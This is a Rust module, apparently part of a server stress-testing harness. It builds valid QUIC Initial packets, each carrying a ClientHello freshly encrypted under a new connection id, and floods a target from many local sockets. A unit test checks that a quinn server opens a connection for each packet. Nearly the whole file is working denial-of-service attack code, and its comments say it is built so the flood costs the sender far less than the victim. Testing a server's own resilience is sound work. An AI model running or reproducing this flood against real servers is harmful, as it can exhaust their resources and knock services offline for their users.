//! First datagrams of QUIC, as many as one likes, each of which begins a connection: from ever other addresses, where nobody answers.
//!
//! A whole client would cost the attacker as much as its victim. These have one ClientHello among them, sealed anew for each connection id
//! (RFC 9001 §5.2), which is all that a flood needs.

use std::io;
use std::net::{Ipv4Addr, SocketAddr, UdpSocket};
use std::path::Path;
use std::sync::Arc;
use std::time::{Duration, Instant};

use rustls::pki_types::ServerName;
use rustls::quic::{ClientConnection, Suite, Version};
use rustls::{CipherSuite, Side};
use xtask::Outcome;

use super::super::attacker::{TICK, Tally};
use super::super::mischief::Attack;
use crate::tls;

/// The smallest that a server looks at (RFC 9000 §14.1), of which three times as much may come back.
const DATAGRAM: usize = 1_200;
/// What replies there are is looked at each so many ticks.
const TICKS_A_LOOK: u32 = 8;
/// Our own connection id, in all of them.
const SOURCE: [u8; 8] = *b"nobodys!";

pub(in super::super) fn run(attack: &Attack, to: SocketAddr, trust: &Path, time: Duration) -> Outcome<Tally> {
    let mint = Mint::new(trust)?;
    let strangers: io::Result<Vec<Stranger>> = (0..attack.connections).map(|nth| Stranger::at(nth, to)).collect();
    let strangers = strangers.map_err(|error| format!("an address of many: {error}"))?;
    let (mut tally, begun, mut ticks) = (Tally::default(), Instant::now(), 0);
    while begun.elapsed() < time {
        for _ in 0..attack.units {
            let at = tally.units as usize % strangers.len();
            let datagram = mint.initial(tally.units)?;
            tally.units += 1;
            tally.sent += strangers[at].socket.send(&datagram).unwrap_or(0) as u64;
        }
        ticks += 1;
        if ticks % TICKS_A_LOOK == 0 {
            strangers.iter().for_each(|stranger| tally.heard += stranger.hear());
        }
        std::thread::sleep(TICK);
    }
    strangers.iter().for_each(|stranger| tally.heard += stranger.hear());
    tally.millis = begun.elapsed().as_millis() as u64;
    Ok(tally)
}

/// An address, and what comes there.
struct Stranger {
    socket: UdpSocket,
}

impl Stranger {
    /// Each on a host of its own, as far as the loopback has hosts; and wherever else the victim is, on a port of its own.
    fn at(nth: usize, to: SocketAddr) -> io::Result<Self> {
        let host = match to {
            SocketAddr::V4(to) if to.ip().is_loopback() => Ipv4Addr::from(0x7f01_0001 + nth as u32).into(),
            SocketAddr::V4(_) => Ipv4Addr::UNSPECIFIED.into(),
            SocketAddr::V6(_) => std::net::Ipv6Addr::UNSPECIFIED.into(),
        };
        let socket = UdpSocket::bind(SocketAddr::new(host, 0))?;
        socket.set_nonblocking(true)?;
        socket.connect(to)?;
        Ok(Self { socket })
    }

    /// Bytes that have come.
    fn hear(&self) -> u64 {
        let mut room = [0; 1 << 16];
        std::iter::from_fn(|| self.socket.recv(&mut room).ok()).map(|count| count as u64).sum()
    }
}

/// Makes them.
struct Mint {
    suite: Suite,
    hello: Vec<u8>,
}

impl Mint {
    fn new(trust: &Path) -> Outcome<Self> {
        let problem = |why: &dyn std::fmt::Display| format!("no ClientHello: {why}");
        let config = tls::quic_client(trust)?;
        let suite = config.crypto_provider().cipher_suites.iter().find_map(|suite| {
            (suite.suite() == CipherSuite::TLS13_AES_128_GCM_SHA256).then(|| suite.tls13()?.quic_suite())?
        });
        let suite = suite.ok_or_else(|| problem(&"QUIC begins with AES-128"))?;
        let name = ServerName::try_from(tls::NAME).map_err(|error| problem(&error))?;
        // Transport parameters: our id (initial_source_connection_id, RFC 9000 §18.2), and no more.
        let params = [&[0x0f, SOURCE.len() as u8][..], &SOURCE].concat();
        let client = ClientConnection::new(Arc::new(config), Version::V1, name, params);
        let mut hello = Vec::new();
        client.map_err(|error| problem(&error))?.write_hs(&mut hello);
        Ok(Self { suite, hello })
    }

    /// One with a connection id that is this number's.
    fn initial(&self, number: u64) -> Outcome<Vec<u8>> {
        let id = number.to_be_bytes();
        let keys = self.suite.keys(&id, Side::Client, Version::V1);
        // RFC 9000 §17.2.2: a packet number of four bytes, version 1, no token, and a length of two bytes.
        let mut packet = [&[0xc3, 0, 0, 0, 1, 8][..], &id, &[8], &SOURCE, &[0]].concat();
        let number_at = packet.len() + 2;
        let payload_at = number_at + 4;
        packet.extend_from_slice(&(0x4000 | (DATAGRAM - number_at) as u16).to_be_bytes());
        packet.extend_from_slice(&[0; 4]);
        // CRYPTO at offset 0 (RFC 9000 §19.6), and PADDING.
        packet.extend_from_slice(&[0x06, 0]);
        packet.extend_from_slice(&(0x4000 | self.hello.len() as u16).to_be_bytes());
        packet.extend_from_slice(&self.hello);
        let key = &keys.local.packet;
        packet.resize(DATAGRAM - key.tag_len(), 0);
        let (head, payload) = packet.split_at_mut(payload_at);
        let tag = key.encrypt_in_place(0, head, payload).map_err(|error| error.to_string())?;
        packet.extend_from_slice(tag.as_ref());
        let (head, payload) = packet.split_at_mut(payload_at);
        let (first, number) = head.split_at_mut(number_at);
        let sample = &payload[..keys.local.header.sample_len()];
        keys.local.header.encrypt_in_place(sample, &mut first[0], number).map_err(|error| error.to_string())?;
        Ok(packet)
    }
}

#[cfg(test)]
mod tests {
    use quinn_proto::crypto::rustls::QuicServerConfig;
    use quinn_proto::{DatagramEvent, Endpoint, EndpointConfig, ServerConfig};

    use super::*;
    use crate::process::Scratch;
    use crate::tls::Identity;

    #[test]
    fn a_server_lets_each_in() {
        use rustls::pki_types::pem::PemObject;
        use rustls::pki_types::{CertificateDer, PrivateKeyDer};
        let scratch = Scratch::new().unwrap();
        let identity = Identity::make(&scratch).unwrap();
        let mint = Mint::new(&identity.cert).unwrap();
        let cert = CertificateDer::from_pem_file(&identity.cert).unwrap();
        let key = PrivateKeyDer::from_pem_file(&identity.key).unwrap();
        let provider = Arc::new(rustls::crypto::aws_lc_rs::default_provider());
        let config = rustls::ServerConfig::builder_with_provider(provider);
        let config = config.with_protocol_versions(&[&rustls::version::TLS13]).unwrap().with_no_client_auth();
        let mut config = config.with_single_cert(vec![cert], key).unwrap();
        config.alpn_protocols = vec![b"h3".to_vec()];
        let server = ServerConfig::with_crypto(Arc::new(QuicServerConfig::try_from(config).unwrap()));
        let mut endpoint = Endpoint::new(Arc::new(EndpointConfig::default()), Some(Arc::new(server)), true, None);
        for number in 0..3 {
            let datagram = mint.initial(number).unwrap();
            assert_eq!(datagram.len(), DATAGRAM);
            let (from, mut out) = ("10.0.0.1:4433".parse().unwrap(), Vec::new());
            let event = endpoint.handle(Instant::now(), from, None, None, datagram[..].into(), &mut out);
            let Some(DatagramEvent::NewConnection(incoming)) = event else { panic!("it begins nothing") };
            assert!(endpoint.accept(incoming, Instant::now(), &mut out, None).is_ok(), "its handshake does not begin");
        }
    }
}
